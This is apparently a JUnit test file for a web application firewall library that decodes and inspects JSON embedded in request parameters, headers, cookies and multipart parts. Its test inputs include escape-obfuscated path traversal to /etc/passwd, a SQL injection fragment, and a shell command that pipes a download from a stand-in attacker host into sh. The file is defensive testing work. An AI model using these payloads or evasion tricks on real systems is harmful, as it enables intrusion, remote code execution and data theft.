package dev.bulwark.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.core.config.BulwarkConfig;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * JSON inside parameters, multipart parts, headers and cookies, read as an application that parses
 * it reads it: its escapes decoded, each key and string inspected by its JSON pointer.
 */
class EmbeddedJsonTest {

    private static final Bulwark DEFAULTS = Bulwark.create(BulwarkConfig.defaults());
    private static final String ESCAPED_TRAVERSAL = "{\"p\":\"..\\u002f..\\u002f..\\u002fetc\\u002fpasswd\"}";

    /** A multipart body of one part per {@code parts} entry: its headers after the name, then its content. */
    private static HttpRequest multipart(String... parts) {
        StringBuilder body = new StringBuilder();
        for (int i = 0; i < parts.length; i += 2) {
            body.append("--b\r\nContent-Disposition: form-data; name=\"part").append(i / 2).append('"')
                    .append(parts[i]).append("\r\n\r\n").append(parts[i + 1]).append("\r\n");
        }
        body.append("--b--\r\n");
        return HttpRequest.builder("POST", "/upload").remoteAddress("127.0.0.1")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(body.toString().getBytes(StandardCharsets.UTF_8)).build();
    }

    private static final String JSON_FILE = "; filename=\"meta.json\"\r\nContent-Type: application/json";

    private static HttpRequest get(String query, String header, String value) {
        HttpRequest.Builder builder = HttpRequest.builder("GET", "/orders").rawQuery(query).remoteAddress("127.0.0.1");
        if (header != null) {
            builder.header(header, value);
        }
        return builder.build();
    }

    private static String encoded(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    @Test
    void blocksTraversalHiddenByEscapesInJsonInAQueryParameter() {
        Decision decision = DEFAULTS.evaluate(get("filter=" + encoded(ESCAPED_TRAVERSAL), null, null));

        assertThat(decision.blocked()).isTrue();
        assertThat(decision.blockingFindings()).anySatisfy(f ->
                assertThat(f.location()).isEqualTo(Location.value(Source.JSON, "query:filter/p")));
    }

    @Test
    void keepsAnExceptionForABodyPointerFromReachingJsonInAParameter() {
        Bulwark excepted = Bulwark.create(BulwarkConfig.fromYaml("""
                deny-rules:
                  exceptions:
                    - rule-ids: [PATH-TRAVERSAL]
                      json: {pointer: /p}
                """));

        assertThat(excepted.evaluate(get("filter=" + encoded(ESCAPED_TRAVERSAL), null, null)).blocked()).isTrue();
    }

    @Test
    void blocksShellCommandHiddenByEscapesInJsonInAFormField() {
        HttpRequest form = HttpRequest.builder("POST", "/orders").remoteAddress("127.0.0.1")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body(("data=" + encoded("{\"cmd\":\"x && \\u0063url http://evil.example/x | sh\"}"))
                        .getBytes(StandardCharsets.US_ASCII)).build();

        assertThat(DEFAULTS.evaluate(form).blocked()).isTrue();
    }

    @Test
    void blocksTraversalHiddenByEscapesInJsonInAHeader() {
        assertThat(DEFAULTS.evaluate(get("", "X-Meta", ESCAPED_TRAVERSAL)).blocked()).isTrue();
    }

    @Test
    void blocksTraversalHiddenByEscapesInJsonInACookie() {
        assertThat(DEFAULTS.evaluate(get("", "Cookie", "prefs=" + ESCAPED_TRAVERSAL)).blocked()).isTrue();
    }

    @Test
    void refusesJsonInAQueryParameterWhoseEscapesLeaveASurrogateUnpaired() {
        Decision decision = DEFAULTS.evaluate(get("filter=" + encoded("{\"q\":\"1 UN\\ud800ION SELECT password FROM users\"}"),
                null, null));

        assertThat(decision.blocked()).isTrue();
        assertThat(decision.blockingFindings().get(0).blockType()).isEqualTo(BlockType.MALFORMED);
        assertThat(decision.blockingFindings().get(0).location()).isEqualTo(Location.value(Source.JSON, "query:filter/q"));
    }

    @Test
    void leavesJsonWithoutEscapesToTheDetectorsReadingItsText() {
        // Every string of such JSON stands in the text as the application reads it.
        Decision decision = DEFAULTS.evaluate(get("filter=" + encoded("{\"p\":\"../../../etc/passwd\"}"), null, null));

        assertThat(decision.blocked()).isTrue();
        assertThat(decision.blockingFindings()).allSatisfy(f -> assertThat(f.location().source()).isEqualTo(Source.QUERY));
    }

    @Test
    void allowsOrdinaryJsonInAQueryParameter() {
        Decision decision = DEFAULTS.evaluate(get("filter=" + encoded("{\"status\":\"open\",\"tags\":[\"oak\\u0020\",\"garden\"]}")
                + "&sort=" + encoded("[\"-created_at\"]"), null, null));

        assertThat(decision.findings()).isEmpty();
    }

    @Test
    void blocksTraversalHiddenByEscapesInAJsonFilePart() {
        Decision decision = DEFAULTS.evaluate(multipart(JSON_FILE, ESCAPED_TRAVERSAL));

        assertThat(decision.blocked()).isTrue();
        assertThat(decision.blockingFindings()).anySatisfy(f ->
                assertThat(f.location()).isEqualTo(Location.value(Source.JSON, "multipart:part0/p")));
    }

    @Test
    void blocksShellCommandHiddenByEscapesInAJsonTextField() {
        Decision decision = DEFAULTS.evaluate(multipart("", "{\"cmd\":\"x && \\u0063url http://evil.example/x | sh\"}"));

        assertThat(decision.blocked()).isTrue();
        assertThat(decision.blockingFindings().get(0).ruleKey()).isEqualTo("UNIXCMD");
    }

    @Test
    void refusesAJsonPartWhoseEscapesLeaveASurrogateUnpaired() {
        Decision decision = DEFAULTS.evaluate(multipart(JSON_FILE, "{\"q\":\"1 UN\\ud800ION SELECT password FROM users\"}"));

        assertThat(decision.blocked()).isTrue();
        assertThat(decision.blockingFindings().get(0).blockType()).isEqualTo(BlockType.MALFORMED);
    }

    @Test
    void allowsAJsonPartOfOrdinaryValues() {
        Decision decision = DEFAULTS.evaluate(multipart(JSON_FILE,
                "{\"name\":\"O\\u0027Brien\",\"tags\":[\"garden\",\"oak\"],\"note\":\"Call before delivery\"}"));

        assertThat(decision.findings()).isEmpty();
    }

    @Test
    void inspectsAFieldThatOnlyStartsLikeJsonAsTextWithoutRefusingIt() {
        assertThat(DEFAULTS.evaluate(multipart("", "[draft] notes on the {meeting}")).allowed()).isTrue();
    }

    @Test
    void parsesJsonPartsOnlyUntilTheirValuesTogetherPassTheElementLimit() {
        Bulwark few = Bulwark.create(BulwarkConfig.fromYaml("limits: {json: {elements: 4}}"));
        String fourValues = "{\"a\":\"x\\u0021\",\"b\":\"y\"}";

        assertThat(few.evaluate(multipart(JSON_FILE, ESCAPED_TRAVERSAL)).blocked()).isTrue();
        assertThat(few.evaluate(multipart(JSON_FILE, fourValues, JSON_FILE, ESCAPED_TRAVERSAL)).blocked()).isFalse();
    }
}
